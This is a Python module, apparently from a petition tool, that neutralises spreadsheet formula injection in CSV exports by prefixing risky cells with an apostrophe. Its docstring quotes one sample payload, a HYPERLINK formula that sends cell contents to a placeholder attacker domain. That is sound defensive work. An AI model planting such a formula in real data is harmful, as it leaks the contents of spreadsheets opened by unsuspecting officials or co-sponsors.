"""CSV cells a spreadsheet will not run.

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ as a formula, and also
one starting with a tab or a carriage return (they skip it and read on). Signers type names and
cities; a name like ``=HYPERLINK("https://evil.example?"&A1,"x")`` would run on a co-sponsor's or
an official's machine. Every CSV we write goes through ``csv_cell``: such text gets a leading
apostrophe (shown as text, the OWASP advice); numbers stay numbers and an empty cell stays empty.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from itertools import repeat

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """The value as a CSV cell that no spreadsheet runs as a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value  # a number is never a formula, and "-3" must stay a number
    return _text_cell(str(value))


def _text_cell(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(value) for value in values]


def csv_column(texts: Sequence[str]) -> Sequence[str]:
    """``csv_cell`` of each text of a column, for exports of a million rows: one C loop finds
    whether any text needs the apostrophe (it seldom does) before any is rebuilt."""
    if any(map(str.startswith, texts, repeat(FORMULA_START))):
        return list(map(_text_cell, texts))
    return texts


# What makes csv.writer (excel dialect, minimal quoting) quote a field: the delimiter, the quote
# character or a line break.
_QUOTED = re.compile(r'[,"\r\n]')


def csv_text(columns: Sequence[Sequence[str]]) -> str:
    """The text csv.writer (excel dialect) writes for these rows, given column by column (all
    of one length). When no field needs quotes, as in nearly every batch of an export, the
    lines are joined in C; otherwise csv.writer writes them."""
    if any(_QUOTED.search("".join(column)) for column in columns):
        buffer = io.StringIO()
        csv.writer(buffer).writerows(zip(*columns, strict=True))
        return buffer.getvalue()
    lines = list(map(",".join, zip(*columns, strict=True)))
    return "\r\n".join(lines) + "\r\n" if lines else ""
